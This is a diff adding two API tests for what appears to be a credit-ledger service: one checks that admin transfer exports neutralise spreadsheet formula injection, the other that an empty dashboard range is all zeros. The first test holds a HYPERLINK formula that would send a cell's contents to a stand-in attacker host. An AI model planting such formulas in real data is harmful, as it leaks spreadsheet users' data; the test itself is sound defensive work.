@@ -135,6 +135,31 @@ async def test_exports_stream_every_matching_transfer_as_csv_and_json_lines(api:
     ]
 
 
+async def test_a_text_cell_a_spreadsheet_would_run_is_exported_as_text(
+    api: Api, ledger: Ledger, sign_in_staff: StaffSignIn
+) -> None:
+    """A reversal reason typed as a formula reaches the CSV with a leading apostrophe; JSON Lines keep it."""
+    operator = await sign_in_staff(Role.admin_operator, "export-operator")
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
+    history = (await api.client.get("/v1/me/behaviours", headers=bearer(ledger.alice))).json()["items"]
+    credited = history[-1]  # the earlier ride; the fixture reversed the later one
+    reversed_ = await api.client.post(
+        f"/v1/admin/transfers/{credited['transfer_id']}/reverse", json={"reason": formula}, headers=bearer(operator)
+    )
+    assert reversed_.status_code == 201, reversed_.text
+    auditor = ledger.auditor
+    params = {"format": "csv", "kind": "reversal"}
+    as_csv = await api.client.get(f"{TRANSFERS}/export", params=params, headers=bearer(auditor))
+    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(as_csv.text))]
+    assert sorted(reasons) == sorted(["refunded", "'" + formula])
+    amounts = [int(row["amount_g"]) for row in csv.DictReader(io.StringIO(as_csv.text))]
+    assert amounts == [468, 468]
+    as_jsonl = await api.client.get(
+        f"{TRANSFERS}/export", params={"format": "jsonl", "kind": "reversal"}, headers=bearer(auditor)
+    )
+    assert formula in [json.loads(line)["reason"] for line in as_jsonl.text.splitlines()]
+
+
 async def test_the_dashboard_counts_net_credits_by_day_type_community_and_plan_action(api: Api, ledger: Ledger) -> None:
     auditor = ledger.auditor
     today = now().astimezone(SHANGHAI).date()
@@ -166,3 +191,31 @@ async def test_the_dashboard_counts_net_credits_by_day_type_community_and_plan_a
     assert_problem(
         await api.client.get("/v1/admin/dashboard", params=backwards, headers=bearer(auditor)), 422, "VALIDATION_FAILED"
     )
+
+
+async def test_the_dashboard_over_days_with_no_credits_is_all_zeros(api: Api, ledger: Ledger) -> None:
+    params = {"start": "2020-01-01", "end": "2020-02-01", "group_by": "day"}
+
+    response = await api.client.get("/v1/admin/dashboard", params=params, headers=bearer(ledger.auditor))
+    table = await api.client.get("/v1/admin/dashboard.csv", params=params, headers=bearer(ledger.auditor))
+
+    assert response.status_code == 200, response.text
+    figures = response.json()
+    assert figures["totals"] == {
+        "credited_g": 0,
+        "co2e_t": "0.000000",
+        "behaviours": 0,
+        "active_residents": 0,
+        "registered_residents": 0,
+    }
+    assert (figures["by_period"], figures["by_behaviour"], figures["by_community"]) == ([], [], [])
+    assert figures["by_plan_action"] == []
+    assert table.status_code == 200, table.text
+    assert list(csv.reader(io.StringIO(table.text)))[1] == [
+        "total",
+        "2020-01-01..2020-02-01",
+        "0",
+        "0.000000",
+        "0",
+        "0",
+    ]
